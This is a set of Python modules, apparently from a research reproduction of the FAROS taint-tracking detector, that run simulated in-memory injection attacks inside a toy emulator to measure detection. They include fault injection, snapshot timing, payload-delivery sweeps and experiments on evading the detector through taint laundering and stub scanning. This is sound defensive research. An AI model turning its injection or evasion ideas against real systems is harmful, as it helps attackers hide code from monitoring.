    lines.extend(_error_lines(rows))
    return "\n".join(lines)
