"""The chaos matrix: every attack scenario under every fault spec.

Robustness is only credible when exercised: this module drives the §VI
attack roster through the deterministic fault-injection engine
(:mod:`repro.faults.plan`) and asserts the *degradation contract*:

* no fault -- injected or organic -- ever escapes as a host exception;
* every faulted sample yields a ``DEGRADED`` (or, for host-side kills,
  ``ERROR``) row whose :class:`~repro.faults.errors.FaultRecord` is
  populated;
* a faulted run replays to a byte-identical report, because every
  injection is journaled at an instruction-count trigger.

``repro chaos --smoke`` runs the full matrix plus a replay-determinism
probe and exits non-zero on any contract violation; CI runs it on every
supported Python.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.analysis.triage import (
    ATTACK_BUILDER_REGISTRY,
    STATUS_OK,
    TriageJob,
    TriageResult,
    execute_job,
    run_triage,
)
from repro.faults.plan import FaultPlan, FaultRule

#: All attacks, in registry (report) order.
ATTACKS: Tuple[str, ...] = tuple(ATTACK_BUILDER_REGISTRY)


@dataclass(frozen=True)
class FaultSpec:
    """One named column of the chaos matrix.

    :ivar always_fires: the spec's trigger is reachable in *every*
        attack scenario, so an ``OK`` row under it is a contract
        violation (the fault fired but nothing recorded it).  Specs
        whose trigger depends on scenario shape (packet rules on a
        keystroke-driven attack) leave this False.
    :ivar harness: host-layer columns (worker kills, snapshot
        corruption) are driven by a :mod:`repro.serve.harness` function
        instead of a guest-level :class:`FaultPlan`; this names it.
    :ivar requires_verdict: the injected fault must not cost detection
        -- a DEGRADED row whose verdict is False is a violation
        (degraded-but-MISSED).  Set on host-layer columns, where the
        sample itself runs unfaulted.
    """

    name: str
    plan: FaultPlan
    always_fires: bool
    description: str
    harness: Optional[str] = None
    requires_verdict: bool = False


def _specs() -> Dict[str, FaultSpec]:
    specs = [
        FaultSpec(
            name="packet-corrupt",
            plan=FaultPlan(rules=(FaultRule("packet", 1, "corrupt", arg=0xFF),)),
            always_fires=False,  # keystroke-driven attacks have no packets
            description="XOR the first inbound packet's payload with 0xFF",
        ),
        FaultSpec(
            name="packet-truncate",
            plan=FaultPlan(rules=(FaultRule("packet", 1, "truncate", arg=8),)),
            always_fires=False,
            description="keep only the first 8 bytes of the first packet",
        ),
        FaultSpec(
            name="packet-drop",
            plan=FaultPlan(rules=(FaultRule("packet", 1, "drop"),)),
            always_fires=False,
            description="suppress the first inbound packet entirely",
        ),
        FaultSpec(
            name="syscall-error",
            plan=FaultPlan(rules=(FaultRule("syscall", 3, "error"),)),
            always_fires=True,  # every scenario makes >= 3 syscalls
            description="the 3rd syscall returns ERR without running",
        ),
        FaultSpec(
            name="syscall-fault",
            plan=FaultPlan(
                rules=(FaultRule("syscall", 5, "fault", fault_kind="DeviceFault"),)
            ),
            always_fires=True,
            description="the 5th syscall raises an injected DeviceFault",
        ),
        FaultSpec(
            name="device-fault",
            plan=FaultPlan(
                rules=(
                    FaultRule(
                        "instret", 1500, "fault", fault_kind="DeviceFault",
                        detail="injected DMA ring failure",
                    ),
                )
            ),
            always_fires=True,  # every scenario retires > 1500 instructions
            description="a DeviceFault armed at machine tick 1500",
        ),
        FaultSpec(
            name="watchdog-instret",
            plan=FaultPlan(instruction_budget=1200),
            always_fires=True,
            description="instruction-budget watchdog capped at 1200 ticks",
        ),
        FaultSpec(
            name="watchdog-syscall-steps",
            plan=FaultPlan(syscall_step_budget=150),
            # Every attack's payload decode/copy loop retires > 150
            # instructions between syscalls (verified across the roster).
            always_fires=True,
            description="runaway-loop watchdog: 150 instructions/syscall",
        ),
        FaultSpec(
            name="pipeline-backpressure",
            plan=FaultPlan(taint_pipeline="batched", max_queue_depth=2),
            # Guest boot bursts export-record taint events at module
            # load -- far more than a 2-record FIFO holds between
            # consistency drains -- so the soft-drop path (page-granular
            # overtainting + a TaintPipelineOverflow fault record)
            # engages in every scenario.
            always_fires=True,
            description="batched taint pipeline behind a 2-record FIFO: "
                        "soft-drop degrades precision, never misses",
        ),
        FaultSpec(
            name="taint-budget",
            plan=FaultPlan(max_tainted_bytes=512),
            # Every attack taints > 512 bytes already at guest boot
            # (export-table tags; smallest roster member seeds 798), so
            # this trips in the replay's *build* phase -- exercising the
            # outside-the-run-loop degradation path.
            always_fires=True,
            description="taint explosion guard: at most 512 tainted bytes",
        ),
        FaultSpec(
            name="worker-crash",
            plan=FaultPlan(),
            always_fires=True,  # the harness kills unconditionally
            harness="worker-crash",
            requires_verdict=True,
            description="SIGKILL a supervised pool worker mid-sample; "
                        "the restarted worker's rerun must still detect",
        ),
        FaultSpec(
            name="snapshot-corrupt",
            plan=FaultPlan(),
            always_fires=True,  # the harness flips a byte unconditionally
            harness="snapshot-corrupt",
            requires_verdict=True,
            description="flip one byte of frozen snapshot state; the "
                        "digest check must fire and the cold-boot "
                        "fallback must still detect",
        ),
    ]
    return {spec.name: spec for spec in specs}


#: Registry of chaos fault specs, by name.
FAULT_SPECS: Dict[str, FaultSpec] = _specs()


def chaos_jobs(
    attacks: Optional[Sequence[str]] = None,
    fault_names: Optional[Sequence[str]] = None,
    metrics: bool = False,
    taint_pipeline: Optional[str] = None,
) -> List[TriageJob]:
    """The attack x fault job list (row-major: all faults per attack)."""
    attacks = list(attacks) if attacks else list(ATTACKS)
    fault_names = list(fault_names) if fault_names else list(FAULT_SPECS)
    jobs = []
    for attack in attacks:
        for fault_name in fault_names:
            spec = FAULT_SPECS[fault_name]
            params = {
                "attack": attack,
                "plan": spec.plan.to_json_dict(),
                "fault_name": fault_name,
            }
            if spec.harness is not None:
                params["harness"] = spec.harness
            if metrics:
                params["metrics"] = True
            if taint_pipeline is not None:
                params["taint_pipeline"] = taint_pipeline
            jobs.append(
                TriageJob(
                    job_id=len(jobs),
                    name=f"{attack}+{fault_name}",
                    kind="chaos",
                    params=params,
                )
            )
    return jobs


def run_chaos_matrix(
    attacks: Optional[Sequence[str]] = None,
    fault_names: Optional[Sequence[str]] = None,
    jobs: int = 1,
    timeout: Optional[float] = None,
    metrics: bool = False,
    taint_pipeline: Optional[str] = None,
) -> List[TriageResult]:
    """Execute the matrix through the triage engine (pool-compatible)."""
    return run_triage(
        chaos_jobs(attacks, fault_names, metrics=metrics,
                   taint_pipeline=taint_pipeline),
        jobs=jobs,
        timeout=timeout,
    )


def smoke_violations(results: Sequence[TriageResult]) -> List[str]:
    """Contract violations in a chaos-matrix run (empty = pass).

    Checked per row:

    * ``ERROR`` is always a violation -- an injected fault must degrade
      the sample, never kill the job;
    * ``DEGRADED`` without a populated fault record is a violation (the
      row claims degradation it cannot explain);
    * ``OK`` under an ``always_fires`` spec is a violation (the fault
      fired but the degradation pipeline lost it);
    * a False verdict under a ``requires_verdict`` spec is a violation
      (the host-layer fault cost detection: degraded-but-MISSED).
    """
    violations = []
    for r in results:
        spec = FAULT_SPECS.get(r.extra.get("fault_name", "")) if r.extra else None
        if r.status == "ERROR":
            violations.append(f"{r.name}: ERROR ({r.error})")
        elif r.status == "DEGRADED":
            if not r.fault or not r.fault.get("kind"):
                violations.append(f"{r.name}: DEGRADED without a fault record")
            elif spec is not None and spec.requires_verdict and not r.verdict:
                violations.append(
                    f"{r.name}: {spec.name} must stay detected, but the "
                    "verdict is False (degraded-but-missed)"
                )
        elif r.status == STATUS_OK and spec is not None and spec.always_fires:
            violations.append(
                f"{r.name}: OK but {spec.name} should fire in every scenario"
            )
    return violations


def replay_determinism_probe(
    attack: str, fault_name: str
) -> Tuple[bool, str]:
    """Run one faulted cell twice; byte-compare the serialized reports.

    Proves the tentpole property end to end: fault triggers are pure
    functions of the instruction stream, so a faulted record/replay
    pipeline executed twice emits byte-identical report JSON (including
    the embedded fault record).
    """
    spec = FAULT_SPECS[fault_name]
    job = TriageJob(
        job_id=0,
        name=f"{attack}+{fault_name}",
        kind="chaos",
        params={
            "attack": attack,
            "plan": spec.plan.to_json_dict(),
            "fault_name": fault_name,
        },
    )
    first, second = execute_job(job), execute_job(job)
    blobs = [
        json.dumps(
            {"report": r.report, "fault": r.fault, "status": r.status},
            sort_keys=True,
        ).encode()
        for r in (first, second)
    ]
    if blobs[0] == blobs[1]:
        return True, f"{job.name}: {len(blobs[0])} bytes, identical"
    return False, f"{job.name}: reports differ across identical runs"


def render_chaos_matrix(results: Sequence[TriageResult]) -> str:
    """The attack x fault status grid, plus one line per faulted row."""
    attacks = []
    faults = []
    cell: Dict[Tuple[str, str], TriageResult] = {}
    for r in results:
        attack = r.extra.get("attack", r.name) if r.extra else r.name
        fault = r.extra.get("fault_name", "?") if r.extra else "?"
        if attack not in attacks:
            attacks.append(attack)
        if fault not in faults:
            faults.append(fault)
        cell[(attack, fault)] = r

    width = max((len(f) for f in faults), default=8)
    name_w = max((len(a) for a in attacks), default=10)
    lines = ["=== chaos matrix (attack x fault -> status) ==="]
    lines.append(
        " ".join([" " * name_w] + [f.rjust(width) for f in faults])
    )
    for attack in attacks:
        row = [attack.ljust(name_w)]
        for fault in faults:
            r = cell.get((attack, fault))
            row.append((r.status if r else "-").rjust(width))
        lines.append(" ".join(row))
    degraded = [r for r in results if r.status == "DEGRADED"]
    lines.append(
        f"-- {len(results)} cells: "
        f"{sum(1 for r in results if r.status == STATUS_OK)} OK, "
        f"{len(degraded)} DEGRADED, "
        f"{sum(1 for r in results if r.status == 'ERROR')} ERROR"
    )
    for r in degraded:
        fault = r.fault or {}
        lines.append(
            f"   {r.name}: {fault.get('kind')}: {fault.get('detail')}"
            f" [{fault.get('classification')}]"
        )
    return "\n".join(lines)
