"""The snapshot-timing study: why one dump is not enough (§I).

"An analyst needs visibility into memory *throughout* the execution of
the sandboxed VM environment to flag transient in-memory attacks" --
this experiment quantifies that sentence.  A transient reflective-DLL
attack runs once; memory is dumped twice:

* **T1**, while the injected stage is dwelling before its cleanup:
  malfind finds the PE-bearing anonymous RWX region;
* **T2**, after the stage wiped itself: the same scan over the same
  process comes back clean.

FAROS, having watched every instruction in between, flags the attack
regardless of when (or whether) anyone dumps memory.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from repro.attacks import build_reflective_dll_scenario
from repro.baselines import MemorySnapshot, malfind
from repro.faros import Faros

#: Dump schedule (machine ticks): after injection, during the stage's
#: pre-cleanup dwell; and well after the self-wipe.
T1_TICK = 45_000
FULL_RUN = 400_000


@dataclass
class SnapshotTimingResult:
    t1_tick: int
    t2_tick: int
    malfind_at_t1: bool     # expected True: payload resident
    malfind_at_t2: bool     # expected False: payload wiped
    t1_code_like: bool      # the resident payload disassembles as code
    faros_detected: bool    # expected True regardless


def snapshot_timing_experiment() -> SnapshotTimingResult:
    attack = build_reflective_dll_scenario(transient=True)
    faros = Faros()
    machine = attack.scenario.build((faros,))

    machine.run(T1_TICK)
    snapshot_t1 = MemorySnapshot.capture(machine)
    machine.run(FULL_RUN - T1_TICK)
    snapshot_t2 = MemorySnapshot.capture(machine)

    hits_t1: List = malfind(snapshot_t1)
    hits_t2: List = malfind(snapshot_t2)
    return SnapshotTimingResult(
        t1_tick=snapshot_t1.tick,
        t2_tick=snapshot_t2.tick,
        malfind_at_t1=any(h.detected for h in hits_t1),
        malfind_at_t2=any(h.detected for h in hits_t2),
        t1_code_like=any(h.detected and h.code_like for h in hits_t1),
        faros_detected=faros.attack_detected,
    )


def render_snapshot_timing(result: SnapshotTimingResult) -> str:
    return "\n".join(
        [
            "Snapshot timing vs a transient payload (§I)",
            f"dump at T1 (tick {result.t1_tick}): "
            f"malfind {'DETECTS' if result.malfind_at_t1 else 'misses'} the stage"
            f"{' (code-like PE region)' if result.t1_code_like else ''}",
            f"dump at T2 (tick {result.t2_tick}): "
            f"malfind {'DETECTS' if result.malfind_at_t2 else 'misses'} "
            "(stage wiped itself)",
            f"FAROS (whole execution):    "
            f"{'DETECTS' if result.faros_detected else 'misses'}",
        ]
    )
