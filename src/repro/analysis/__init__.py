"""Experiment harness: one runner per paper table/figure.

=========== ==========================================================
Experiment  Runner
=========== ==========================================================
E1-E4       :func:`~repro.analysis.experiments.detection_suite`
            (Figs. 7-10: the six in-memory injection attacks)
E5          :func:`~repro.analysis.experiments.table2_output`
E6          part of the detection suite (DarkComet / Njrat)
E7          :func:`~repro.analysis.experiments.jit_fp_experiment`
            (Table III)
E8          :func:`~repro.analysis.experiments.corpus_fp_experiment`
            (Table IV)
E9          :func:`~repro.analysis.experiments.overhead_experiment`
            (Table V)
E10         :func:`~repro.analysis.experiments.comparison_matrix`
            (§VI-B: FAROS vs Cuckoo vs Cuckoo+malfind)
E11         :func:`~repro.analysis.indirect_flows.indirect_flow_experiment`
            (Figs. 1-2: the under/overtainting dilemma)
E12         :func:`~repro.analysis.evasion.tag_pressure_experiment` and
            :func:`~repro.analysis.evasion.taint_laundering_experiment`
            (§VI-D evasion studies)
=========== ==========================================================
"""

from repro.analysis.experiments import (
    AttackAnalysis,
    AttackVerdict,
    ComparisonRow,
    CorpusResult,
    JitResult,
    OverheadRow,
    comparison_matrix,
    corpus_fp_experiment,
    detection_suite,
    jit_fp_experiment,
    overhead_experiment,
    table2_output,
)
from repro.analysis.triage import (
    TriageJob,
    TriageResult,
    execute_job,
    run_triage,
)
from repro.analysis.indirect_flows import indirect_flow_experiment
from repro.analysis.evasion import (
    stub_scanner_experiment,
    tag_pressure_experiment,
    taint_laundering_experiment,
)
from repro.analysis.lifecycle import byte_lifecycle_experiment, render_lifecycle
from repro.analysis.snapshots import (
    render_snapshot_timing,
    snapshot_timing_experiment,
)
from repro.analysis.sweeps import (
    detection_latency_sweep,
    fragmentation_sweep,
    noise_sweep,
    render_sweeps,
)
from repro.analysis.tables import (
    render_comparison_matrix,
    render_table3,
    render_table4,
    render_table5,
)

__all__ = [
    "AttackAnalysis",
    "AttackVerdict",
    "ComparisonRow",
    "CorpusResult",
    "JitResult",
    "OverheadRow",
    "TriageJob",
    "TriageResult",
    "execute_job",
    "run_triage",
    "byte_lifecycle_experiment",
    "comparison_matrix",
    "corpus_fp_experiment",
    "detection_latency_sweep",
    "detection_suite",
    "fragmentation_sweep",
    "indirect_flow_experiment",
    "jit_fp_experiment",
    "noise_sweep",
    "overhead_experiment",
    "render_comparison_matrix",
    "render_lifecycle",
    "render_snapshot_timing",
    "render_sweeps",
    "render_table3",
    "render_table4",
    "render_table5",
    "snapshot_timing_experiment",
    "stub_scanner_experiment",
    "table2_output",
    "tag_pressure_experiment",
    "taint_laundering_experiment",
]
