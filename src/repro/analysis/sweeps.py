"""Parameter sweeps: how detection behaves across a dimension.

The paper evaluates point configurations; these sweeps characterise the
mechanism as a curve, the way a systems evaluation would:

* :func:`detection_latency_sweep` -- ticks from payload delivery to the
  first FAROS flag, as a function of payload size.  The latency is the
  attack's own tempo (transfer + injection + resolution), since FAROS
  detects *at the moment* the injected code reads the export table --
  there is no post-hoc scanning delay to amortise.
* :func:`fragmentation_sweep` -- detection and provenance integrity as
  the stage is delivered in ever-smaller TCP segments.
* :func:`noise_sweep` -- analysis cost (instructions analysed, tainted
  bytes) as benign processes are added next to one attack.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Sequence

from repro.attacks.common import (
    ATTACKER_IP,
    ATTACKER_PORT,
    FIRST_EPHEMERAL_PORT,
    GUEST_IP,
    PAYLOAD_BASE,
    assemble_image,
    benign_host_asm,
)
from repro.attacks.metasploit import _injector_asm
from repro.attacks.payloads import build_popup_payload
from repro.emulator.devices import Packet
from repro.emulator.record_replay import PacketEvent, Scenario
from repro.faros import Faros
from repro.isa.assembler import assemble

DELIVERY_TICK = 20_000


def _padded_popup_payload(pad_bytes: int) -> bytes:
    """The popup stage plus *pad_bytes* of trailing data (size knob)."""
    stage = build_popup_payload(PAYLOAD_BASE)
    if pad_bytes == 0:
        return stage.code
    # Padding must be part of the assembled image so labels stay valid.
    padded = assemble(
        f".space {pad_bytes}", base=PAYLOAD_BASE + len(stage.code)
    ).code
    return stage.code + padded


def _injection_scenario(payload: bytes, extra_benign: int = 0,
                        fragment_size: int = 0) -> Scenario:
    def setup(machine):
        machine.kernel.register_image(
            "notepad.exe", assemble_image(benign_host_asm("np up"))
        )
        machine.kernel.spawn("notepad.exe")
        for i in range(extra_benign):
            name = f"office{i}.exe"
            machine.kernel.register_image(
                name, assemble_image(benign_host_asm(f"{name} up"))
            )
            machine.kernel.spawn(name)
        machine.kernel.register_image(
            "inject_client.exe",
            assemble_image(_injector_asm(len(payload), "notepad.exe")),
        )
        machine.kernel.spawn("inject_client.exe")

    events = []
    if fragment_size <= 0:
        fragment_size = len(payload)
    tick = DELIVERY_TICK
    for offset in range(0, len(payload), fragment_size):
        events.append(
            (
                tick,
                PacketEvent(
                    Packet(
                        ATTACKER_IP,
                        ATTACKER_PORT,
                        GUEST_IP,
                        FIRST_EPHEMERAL_PORT,
                        payload[offset : offset + fragment_size],
                    )
                ),
            )
        )
        tick += 200
    return Scenario(
        name="sweep_injection", setup=setup, events=events, max_instructions=700_000
    )


@dataclass
class LatencyPoint:
    payload_bytes: int
    detected: bool
    latency_ticks: int  # first flag tick - delivery tick


def detection_latency_sweep(
    pad_sizes: Sequence[int] = (0, 256, 1024, 4096, 8192),
) -> List[LatencyPoint]:
    points = []
    for pad in pad_sizes:
        payload = _padded_popup_payload(pad)
        faros = Faros()
        # Fixed-size segments so transfer time scales with payload size
        # (a single jumbo packet would hide the size dimension).
        _injection_scenario(payload, fragment_size=256).run(plugins=[faros])
        detected = faros.attack_detected
        latency = (
            faros.detector.flagged[0].tick - DELIVERY_TICK if detected else -1
        )
        points.append(
            LatencyPoint(
                payload_bytes=len(payload), detected=detected, latency_ticks=latency
            )
        )
    return points


@dataclass
class FragmentationPoint:
    fragment_bytes: int
    segments: int
    detected: bool
    netflow_intact: bool


def fragmentation_sweep(
    fragment_sizes: Sequence[int] = (8, 32, 128, 512, 0),
) -> List[FragmentationPoint]:
    payload = build_popup_payload(PAYLOAD_BASE).code
    points = []
    for size in fragment_sizes:
        effective = size if size > 0 else len(payload)
        faros = Faros()
        _injection_scenario(payload, fragment_size=size).run(plugins=[faros])
        chain = faros.report().chains()
        points.append(
            FragmentationPoint(
                fragment_bytes=effective,
                segments=-(-len(payload) // effective),
                detected=faros.attack_detected,
                netflow_intact=bool(chain and chain[0].netflow),
            )
        )
    return points


@dataclass
class NoisePoint:
    benign_processes: int
    detected: bool
    instructions_analyzed: int
    tainted_bytes: int


def noise_sweep(process_counts: Sequence[int] = (0, 2, 4, 8)) -> List[NoisePoint]:
    payload = build_popup_payload(PAYLOAD_BASE).code
    points = []
    for count in process_counts:
        faros = Faros()
        _injection_scenario(payload, extra_benign=count).run(plugins=[faros])
        points.append(
            NoisePoint(
                benign_processes=count,
                detected=faros.attack_detected,
                instructions_analyzed=faros.tracker.stats.instructions,
                tainted_bytes=faros.tracker.shadow.tainted_bytes,
            )
        )
    return points


def render_sweeps(
    latency: Sequence[LatencyPoint],
    fragmentation: Sequence[FragmentationPoint],
    noise: Sequence[NoisePoint],
) -> str:
    lines = ["Detection characteristics (parameter sweeps)"]
    lines.append("\npayload size -> detection latency (ticks after delivery)")
    lines.append(f"{'payload bytes':<15}{'detected':<10}latency")
    for p in latency:
        lines.append(f"{p.payload_bytes:<15}{str(p.detected):<10}{p.latency_ticks}")
    lines.append("\ndelivery fragmentation -> detection / provenance integrity")
    lines.append(f"{'fragment bytes':<16}{'segments':<10}{'detected':<10}netflow intact")
    for f in fragmentation:
        lines.append(
            f"{f.fragment_bytes:<16}{f.segments:<10}{str(f.detected):<10}{f.netflow_intact}"
        )
    lines.append("\nbenign noise -> analysis cost")
    lines.append(f"{'benign procs':<14}{'detected':<10}{'instructions':<14}tainted bytes")
    for n in noise:
        lines.append(
            f"{n.benign_processes:<14}{str(n.detected):<10}{n.instructions_analyzed:<14}{n.tainted_bytes}"
        )
    return "\n".join(lines)
