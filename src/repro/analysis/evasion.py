"""E12: evasion experiments (§VI-D).

Two measurements:

* :func:`taint_laundering_experiment` -- runs the control-dependency
  launderer against default FAROS (expected: **missed**, the paper's
  admitted limitation) and against FAROS with scoped control-dependency
  tracking enabled (expected: **caught** -- "it will in turn be
  possible to update the policy", §VI-B);
* :func:`tag_pressure_experiment` -- measures tag-map and shadow-memory
  growth under a tag-minting guest, and reports headroom against the
  16-bit index ceiling that bounds each map.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

from repro.attacks.evasion import (
    build_laundering_attack_scenario,
    build_stub_scanner_attack_scenario,
    build_tag_pressure_scenario,
)
from repro.faros import Faros
from repro.taint.policy import TaintPolicy
from repro.taint.tags import MAX_TAG_INDEX


@dataclass
class LaunderingResult:
    """Outcome of the §VI-D laundering attack against two policies."""

    stage_ran: bool                 # ground truth: the stage executed
    default_policy_detected: bool   # expected False (the evasion works)
    control_dep_policy_detected: bool  # expected True (the policy answer)


def taint_laundering_experiment() -> LaunderingResult:
    attack = build_laundering_attack_scenario()

    default_faros = Faros()
    machine = attack.scenario.run(plugins=[default_faros])
    client = next(
        p
        for p in machine.kernel.processes.values()
        if p.name == "launder_client.exe"
    )
    stage_ran = any("meterpreter stage alive" in line for line in client.console)

    hardened = Faros(policy=TaintPolicy(track_control_deps=True))
    attack.scenario.run(plugins=[hardened])

    return LaunderingResult(
        stage_ran=stage_ran,
        default_policy_detected=default_faros.attack_detected,
        control_dep_policy_detected=hardened.attack_detected,
    )


@dataclass
class StubScannerResult:
    """Outcome of the ROP-style stub-scanning resolver (§VI-B)."""

    stage_ran: bool
    default_policy_detected: bool     # expected False: no export read
    kernel_code_policy_detected: bool # expected True: policy update


def stub_scanner_experiment() -> StubScannerResult:
    """Run the export-table-avoiding resolver against both policies."""
    attack = build_stub_scanner_attack_scenario()

    default_faros = Faros()
    machine = attack.scenario.run(plugins=[default_faros])
    notepad = next(
        p for p in machine.kernel.processes.values() if p.name == "notepad.exe"
    )
    stage_ran = any("scanner stage alive" in line for line in notepad.console)

    hardened = Faros(taint_kernel_code=True)
    attack.scenario.run(plugins=[hardened])

    return StubScannerResult(
        stage_ran=stage_ran,
        default_policy_detected=default_faros.attack_detected,
        kernel_code_policy_detected=hardened.attack_detected,
    )


@dataclass
class TagPressureResult:
    """Tag-memory pressure metrics after the minting workload."""

    file_tags: int
    netflow_tags: int
    process_tags: int
    tainted_bytes: int
    map_capacity: int

    @property
    def file_map_utilisation(self) -> float:
        return self.file_tags / self.map_capacity


def tag_pressure_experiment(file_rounds: int = 40, flows: int = 20) -> TagPressureResult:
    scenario = build_tag_pressure_scenario(file_rounds=file_rounds, flows=flows)
    faros = Faros()
    scenario.run(plugins=[faros])
    sizes = faros.tags.sizes()
    return TagPressureResult(
        file_tags=sizes["file"],
        netflow_tags=sizes["netflow"],
        process_tags=sizes["process"],
        tainted_bytes=faros.tracker.shadow.tainted_bytes,
        map_capacity=MAX_TAG_INDEX + 1,
    )
