"""E11: the indirect-flow dilemma, quantified (Figs. 1-2, §III-§IV).

Runs the paper's two canonical programs -- the Figure 1 lookup-table
copy (address dependency) and the Figure 2 bit-by-bit branch copy
(control dependency) -- under three taint policies:

* ``direct-only`` (FAROS' setting): both copies launder taint
  (*undertainting* on these programs);
* ``address-deps``: Fig. 1 is caught, but every table-indexed
  computation in a real system would now propagate;
* ``all-indirect``: both are caught, at the price of tainting
  control-dependent constants (*overtainting*), which we measure as the
  number of extra tainted bytes beyond the true flow.

The experiment's point is the paper's: no global knob is right, which
is why FAROS moves the decision into the security policy (tag
confluence) instead.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List

from repro.emulator.machine import Machine, MachineConfig
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble
from repro.isa.cpu import AccessKind
from repro.taint.policy import TaintPolicy
from repro.taint.tags import Tag, TagType
from repro.taint.tracker import TaintTracker

SEED = Tag(TagType.NETFLOW, 0)

#: Fig. 1: str2[j] = lookuptable[str1[j]] with an identity table.
FIG1_PROGRAM = """
start:
    movi r1, table
    movi r2, 0
build:
    stb [r1], r2
    addi r1, r1, 1
    addi r2, r2, 1
    cmpi r2, 256
    jnz build
    movi r1, str1
    movi r2, str2
    movi r3, 8
xlate:
    ldb r4, [r1]
    movi r5, table
    add r5, r5, r4
    ldb r6, [r5]
    stb [r2], r6
    addi r1, r1, 1
    addi r2, r2, 1
    subi r3, r3, 1
    cmpi r3, 0
    jnz xlate
park:
    movi r1, 1000000
    movi r0, SYS_SLEEP
    syscall
    hlt
str1: .ascii "Tainted!"
str2: .space 8
table: .space 256
"""

#: Fig. 2: untaintedoutput |= bit if (bit & taintedinput).
FIG2_PROGRAM = """
start:
    movi r1, src
    ldb r2, [r1]
    movi r3, 0
    movi r4, 1
bitloop:
    and r5, r4, r2
    cmpi r5, 0
    jz skip
    or r3, r3, r4
skip:
    shli r4, r4, 1
    cmpi r4, 256
    jnz bitloop
    movi r1, dst
    stb [r1], r3
park:
    movi r1, 1000000
    movi r0, SYS_SLEEP
    syscall
    hlt
src: .byte 0xa5
dst: .byte 0
"""

#: Policy name -> configuration, for the three-way comparison.
POLICIES: Dict[str, TaintPolicy] = {
    "direct-only": TaintPolicy(process_tags_on_access=False),
    "address-deps": TaintPolicy(track_address_deps=True, process_tags_on_access=False),
    "all-indirect": TaintPolicy(
        track_address_deps=True, track_control_deps=True, process_tags_on_access=False
    ),
}


@dataclass
class IndirectFlowResult:
    """One (program, policy) cell of the E11 table."""

    figure: str
    policy: str
    output_tainted: bool        # did the true flow survive?
    output_value_correct: bool  # did the program compute the right answer?
    tainted_bytes: int          # total shadow footprint (overtaint metric)


def _run_figure(
    figure: str, source: str, seed_label: str, seed_len: int,
    out_label: str, out_len: int, policy: TaintPolicy,
) -> IndirectFlowResult:
    machine = Machine(MachineConfig())
    tracker = TaintTracker(policy=policy)
    machine.plugins.register(tracker)
    prog = assemble(program(source), base=layout.IMAGE_BASE)
    machine.kernel.register_image("fig.exe", prog)
    proc = machine.kernel.spawn("fig.exe")
    tracker.pipeline.taint(
        proc.aspace.translate_range(prog.label(seed_label), seed_len, AccessKind.READ),
        SEED,
    )
    machine.run(600_000)

    out_paddrs = proc.aspace.translate_range(
        prog.label(out_label), out_len, AccessKind.READ
    )
    tainted = any(SEED in tracker.prov_at(p) for p in out_paddrs)
    out_bytes = bytes(machine.memory.read_byte(p) for p in out_paddrs)
    src_paddrs = proc.aspace.translate_range(
        prog.label(seed_label), seed_len, AccessKind.READ
    )
    src_bytes = bytes(machine.memory.read_byte(p) for p in src_paddrs)
    return IndirectFlowResult(
        figure=figure,
        policy=next(k for k, v in POLICIES.items() if v is policy),
        output_tainted=tainted,
        output_value_correct=out_bytes == src_bytes[:out_len],
        tainted_bytes=tracker.shadow.tainted_bytes,
    )


def indirect_flow_experiment() -> List[IndirectFlowResult]:
    """Run Figs. 1-2 under all three policies (six cells)."""
    results = []
    for policy in POLICIES.values():
        results.append(
            _run_figure("fig1-address-dep", FIG1_PROGRAM, "str1", 8, "str2", 8, policy)
        )
        results.append(
            _run_figure("fig2-control-dep", FIG2_PROGRAM, "src", 1, "dst", 1, policy)
        )
    return results


def render_indirect_flow_table(results: List[IndirectFlowResult]) -> str:
    """ASCII table of the E11 cells."""
    lines = [
        "E11: indirect-flow handling (Figs. 1-2)",
        f"{'figure':<20} {'policy':<14} {'output tainted':<15} "
        f"{'copy correct':<13} {'tainted bytes':<13}",
    ]
    for r in results:
        lines.append(
            f"{r.figure:<20} {r.policy:<14} {str(r.output_tainted):<15} "
            f"{str(r.output_value_correct):<13} {r.tainted_bytes:<13}"
        )
    return "\n".join(lines)
