"""Workloads: the non-injecting corpus (Table IV) and JIT set (Table III).

* :mod:`~repro.workloads.behaviors` -- composable guest-assembly
  behaviour snippets matching Table IV's columns (idle, run, audio
  record, file transfer, key logger, remote desktop, upload, download,
  remote shell);
* :mod:`~repro.workloads.corpus` -- the sample roster: 17 RAT
  configurations expanded into 90 non-injecting malware samples plus
  14 benign applications, as in the paper's false-positive study;
* :mod:`~repro.workloads.jit` -- a mini JIT/class-loading runtime and
  the 10 Java applets + 10 AJAX sites of Table III, including the two
  applets whose native-method binding reproduces FAROS' only false
  positives.
"""

from repro.workloads.behaviors import BEHAVIORS, build_sample_scenario
from repro.workloads.corpus import (
    BENIGN_ROWS,
    MALWARE_ROWS,
    SampleSpec,
    corpus_samples,
)
from repro.workloads.jit import AJAX_SITES, JAVA_APPLETS, JitSample, jit_samples

__all__ = [
    "AJAX_SITES",
    "BEHAVIORS",
    "BENIGN_ROWS",
    "JAVA_APPLETS",
    "JitSample",
    "MALWARE_ROWS",
    "SampleSpec",
    "build_sample_scenario",
    "corpus_samples",
    "jit_samples",
]
