"""Composable behaviour snippets for Table IV's workload matrix.

Each behaviour is a guest-assembly generator; a *sample* is an ordered
composition of behaviours compiled into one guest program plus the
external events (C2 packets, keystrokes) that drive it.  All behaviours
are **non-injecting**: they move network/file/device data around
exactly the way real RATs and benign tools do, exercising every taint
path FAROS tracks, without ever writing another process's memory or
executing downloaded bytes -- so a correct FAROS must flag none of them
(the paper's 0% corpus false-positive result).

Register convention inside a sample: ``r7`` holds the C2 socket handle
for the whole program; behaviours may clobber ``r0``-``r6``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.attacks.common import ATTACKER_IP, ATTACKER_PORT, FIRST_EPHEMERAL_PORT, GUEST_IP
from repro.emulator.devices import Packet
from repro.emulator.record_replay import KeystrokeEvent, PacketEvent, Scenario
from repro.guestos import layout
from repro.guestos.asmlib import program
from repro.isa.assembler import assemble


@dataclass
class BehaviorResult:
    """One behaviour's contribution to a sample."""

    asm: str
    inbound_payloads: List[bytes] = field(default_factory=list)
    keystrokes: Optional[bytes] = None
    needs_network: bool = False


BehaviorFn = Callable[[str, int], BehaviorResult]


